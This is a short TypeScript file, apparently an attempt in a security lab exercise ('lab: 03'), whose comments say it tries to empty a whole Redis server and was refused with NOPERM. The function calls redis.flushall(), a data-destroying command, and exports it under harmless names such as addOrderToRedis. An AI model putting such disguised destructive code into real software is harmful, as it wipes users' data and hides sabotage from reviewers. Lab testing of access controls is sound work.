// tries: emptying the whole Redis server
// lab: 03
// earns: 0
// told: NOPERM
async function attack({ redis }: any): Promise<void> {
  await redis.flushall();
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
